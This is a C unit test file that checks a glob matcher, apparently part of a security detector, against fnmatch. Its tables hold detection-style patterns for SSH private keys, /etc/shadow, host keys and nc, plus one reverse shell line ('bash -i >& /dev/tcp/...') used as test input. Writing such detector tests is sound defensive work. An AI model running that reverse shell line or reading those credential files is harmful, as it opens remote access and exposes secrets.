/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Compiled globs answer exactly as fnmatch(pattern, s, 0): every pattern of
 * a table (each fast-path shape, escapes, brackets, '?') against every
 * string of a table, plus random patterns and strings over a small
 * alphabet that makes matches likely.
 */
#include <criterion/criterion.h>
#include <fnmatch.h>
#include <stdlib.h>
#include <string.h>

#include "detect/glob.h"

static const char *pats[] = {
	"", "*", "**", "***", "/bin/*", "*/nc", "*/.ssh/id_*", "/etc/shadow", "/etc/ssh/ssh_host_*_key",
	"*tcp*", "**a**", "a*", "*a", "a", "?", "??", "a?c", "[ab]c", "*[ab]", "\\*", "a\\*",
	"*\\*", "\\**", "a*\\bc", "[]]x", "[!a]*", "*.so", "*a*b*c", "a*b", "*/x/*/y", "\\", "a\\",
	"[", "*[", "*]", "]", "*?", "?*", "*x?", "[a-c]*z",
};
static const char *strs[] = {
	"", "a", "b", "ab", "ac", "abc", "a*", "*", "**", "a\\*", "/bin/sh", "/bin", "/usr/bin/nc",
	"/root/.ssh/id_rsa", "/etc/shadow", "/etc/shadow-", "/etc/ssh/ssh_host_rsa_key",
	"/etc/ssh/ssh_host_rsa_key.pub", "bash -i >& /dev/tcp/1.2.3.4/80", "]x", "bx", "zzz",
	"lib.so", "x.so.1", "aXbYc", "a/x/b/y", "/x/a/y", "\\", "a\\", "[", "a[", "a]", "abz",
	"cz", "dz", "a.b",
};

static void same(const char *p, const char *s)
{
	struct glob_pat g;

	glob_compile(&g, p);
	cr_assert_eq(glob_match(&g, s, strlen(s)), fnmatch(p, s, 0) == 0,
		     "pattern \"%s\" string \"%s\" (how %d): fnmatch says %d", p, s, g.how,
		     fnmatch(p, s, 0) == 0);
}

Test(glob, table_agrees_with_fnmatch)
{
	for (size_t i = 0; i < sizeof(pats) / sizeof(pats[0]); i++)
		for (size_t j = 0; j < sizeof(strs) / sizeof(strs[0]); j++)
			same(pats[i], strs[j]);
}

Test(glob, shapes_take_the_fast_path)
{
	static const struct {
		const char *p;
		int how;
	} t[] = {
		{ "/bin/*", GLOB_PREFIX },  { "*/nc", GLOB_SUFFIX },	{ "*tcp*", GLOB_INFIX },
		{ "/etc/shadow", GLOB_EXACT }, { "**", GLOB_ANY },	{ "**a**", GLOB_INFIX },
		{ "a\\*", GLOB_FNMATCH },   { "a?c", GLOB_FNMATCH }, { "/etc/ssh/ssh_host_*_key", GLOB_FNMATCH },
	};
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct glob_pat g;

		glob_compile(&g, t[i].p);
		cr_expect_eq(g.how, t[i].how, "%s: how %d, want %d", t[i].p, g.how, t[i].how);
	}
}

Test(glob, random_patterns_agree_with_fnmatch)
{
	static const char pa[] = "ab*?[]!\\/";
	static const char sa[] = "ab/*[]\\";
	unsigned seed = 12345;
	char p[8], s[10];

	for (int n = 0; n < 200000; n++) {
		int pl = rand_r(&seed) % 7, sl = rand_r(&seed) % 9;

		for (int i = 0; i < pl; i++)
			p[i] = pa[rand_r(&seed) % (sizeof(pa) - 1)];
		p[pl] = 0;
		for (int i = 0; i < sl; i++)
			s[i] = sa[rand_r(&seed) % (sizeof(sa) - 1)];
		s[sl] = 0;
		same(p, s);
	}
}
